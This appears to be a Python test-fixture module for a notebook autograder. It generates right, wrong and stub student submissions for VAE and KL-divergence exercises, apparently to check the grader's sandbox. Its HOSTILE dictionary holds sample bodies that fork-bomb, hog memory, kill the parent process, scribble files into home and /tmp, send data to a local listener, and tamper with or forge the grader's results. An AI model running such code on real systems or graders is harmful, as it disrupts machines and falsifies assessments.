"""Submissions as students hand them in, with the marks that they must get.

They are made from the students' notebooks: an answer is right (the lesson's solution), wrong, or
left a stub.
"""

import csv
import json
import random
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

from notebooks import build
from vaelib.check import EXERCISES

ROOT = Path(__file__).resolve().parents[3]

# Wrong bodies that do something an answer could do; any other exercise's is WRONG_OF_ANY.
WRONG = {
    "kl_bernoulli": "return q * (q / p).log() + (1 - q) * ((1 - q) / (1 - p)).log()",
    "kl_gaussian": "return (mu_q - mu_p) ** 2 / sigma_p**2 + sigma_q - sigma_p",
    "kl_monte_carlo": "r = log_q(z) - log_p(z)\n    return r.mean(), r.std()",
    "gaussian_mle": "return x.mean(), x.std()",
    "log_marginal": "return log_px_z.mean(0)",
    "elbo": "return ((x - x_hat) ** 2).flatten(1).sum(1)",
    "reparameterise": "return mu + log_sigma * eps",
    "optimal_baseline": "return f_z.mean()",
    "linear_annealing": "return step / warmup",
}
WRONG_OF_ANY = "return None"
# Bodies that try to do harm; `{out!r}` and `{port}` are filled in.
HOSTILE = {
    "loops": "while True:\n        try:\n            1 / 0\n        except:\n            pass",
    "forks": "import os\n    while True:\n        os.fork()",
    "hogs": "return torch.ones(10**7) * sum(len(bytearray(1 << 33)) for _ in range(9))",
    "exits": "import os\n    os._exit(0)",
    "kills": "import os\n    os.kill(os.getppid(), 9)\n    os.kill(0, 9)",
    "prints": "import os\n    os.write(1, b'x' * 10**7)\n    print('x' * 10**7)\n    return 0",
    "tampers": """import sys
    from vaelib import check
    for module in [m for n, m in list(sys.modules.items()) if "vaelib" in n]:
        for name in ("judge", "passed", "CheckResult", "EXERCISES", "text", "pack_outcome"):
            setattr(module, name, lambda *a, **k: check)
    check.CheckResult.passed = True
    return None""",
    "forges": """import gc, json
    from multiprocessing.connection import Connection
    content = {"passed": True, "kind": "value", "points": 3}
    head = json.dumps({"number": 1, "shapes": [], "content": content}).encode()
    for thing in gc.get_objects():
        if isinstance(thing, Connection):
            thing.send_bytes(b"%d\\n" % len(head) + head)
    return 0""",
    "writes": """import glob, os
    for place in ("..", "../..", os.path.expanduser("~"), "/tmp", {out!r}):
        try:
            with open(os.path.join(place, "stolen-by-vaelib-test"), "w") as file:
                file.write("all points")
        except OSError:
            pass
    for path in glob.glob({out!r} + "/*"):
        try:
            open(path, "w").write("all points")
        except OSError:
            pass
    return 0""",
    "calls home": """import socket
    with socket.create_connection(("127.0.0.1", {port})) as home:
        home.send(b"here is the machine")
    return 0""",
}


@dataclass
class Made:
    """One submission: its files, the points it must get, and words that its remarks must have."""

    name: str
    files: dict[str, bytes]
    points: dict[str, int] = field(default_factory=dict)
    says: list[str] = field(default_factory=list)

    def write(self, folder: Path) -> None:
        for name, content in self.files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)


def built(lesson: int, kind: str) -> list[Any]:
    """The cells of a lesson, as its source gives them."""
    (path,) = (ROOT / "notebooks" / "source").glob(f"{lesson:02}_*.py")
    return build.read(path, kind, EXERCISES).cells


@cache
def right(lesson: int) -> dict[str, str]:
    """The solutions of a lesson, by the name of the exercise, as code."""
    cells = [cell for cell in built(lesson, "solutions") if solves(cell)]
    lines = {c.metadata["nbgrader"]["grade_id"]: c.source.splitlines() for c in cells}
    return {n: "\n".join(x for x in text if "SOLUTION" not in x) for n, text in lines.items()}


@cache
def handed_out(lesson: int) -> str:
    """A lesson's notebook as students get it, as text."""
    cells = [dict(cell) for cell in built(lesson, "student")]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})


def wrong(name: str, code: str) -> str:
    """The solution `code` of an exercise with a wrong body."""
    return with_body(code, WRONG.get(name, WRONG_OF_ANY))


def with_body(code: str, body: str) -> str:
    """A function's definition `code` with another body."""
    head = code[: code.index(":\n") + 2]
    return f"{head}    {body}"


def answered(lesson: int, rng: random.Random, chances: str = "rrrws") -> tuple[dict, Made]:
    """A lesson with each exercise right ("r"), wrong ("w") or left a stub ("s"), by chance."""
    notebook = json.loads(handed_out(lesson))
    made = Made("", {})
    for cell in filter(solves, notebook["cells"]):
        name = cell["metadata"]["nbgrader"]["grade_id"]
        code = right(lesson)[name]
        state = rng.choice(chances)
        made.points[name] = 0
        if state == "r":
            cell["source"] = code
            made.points[name] = EXERCISES[name].points
        elif state == "w":
            cell["source"] = wrong(name, code)
            made.says.append(f"{EXERCISES[name].number}: ")
    return notebook, made


def dump(notebook: dict, encoding: str = "utf-8") -> bytes:
    return json.dumps(notebook, ensure_ascii=False).encode(encoding)


def lessons() -> list[int]:
    return sorted({int(e.number[0]) for e in EXERCISES.values()})


def solves(cell: dict) -> bool:
    """Whether a cell is the one of an exercise's solution."""
    return bool(cell["metadata"].get("nbgrader", {}).get("solution"))


def code_cell(source: str, **more: Any) -> dict:
    cell = {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": []}
    return cell | {"source": source} | more


def plain(number: int, rng: random.Random) -> Made:
    """A lesson, or a folder of two or three lessons."""
    chosen = rng.sample(lessons(), rng.choice([1, 1, 2, 3]))
    made = Made(f"student-{number:03}", {})
    for lesson in chosen:
        notebook, part = answered(lesson, rng)
        made.files[f"{made.name}/lesson {lesson}.ipynb"] = dump(notebook)
        made.points |= part.points
        made.says += part.says
    if len(chosen) == 1:
        made.name += ".ipynb"
        made.files = {made.name: next(iter(made.files.values()))}
    return made


KL = "def kl_bernoulli(p, q):\n    return p * log(p / q) + (1 - p) * log((1 - p) / (1 - q))"


def simple(name: str, *cells: str) -> Made:
    """A notebook with these code cells."""
    code = [{"cell_type": "code", "metadata": {}, "source": cell} for cell in cells]
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": code}
    return Made(name, {name: json.dumps(notebook).encode()})


def rows(out: Path) -> list[dict[str, str]]:
    """The table of marks, as the command has written it."""
    with (out / "marks.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))
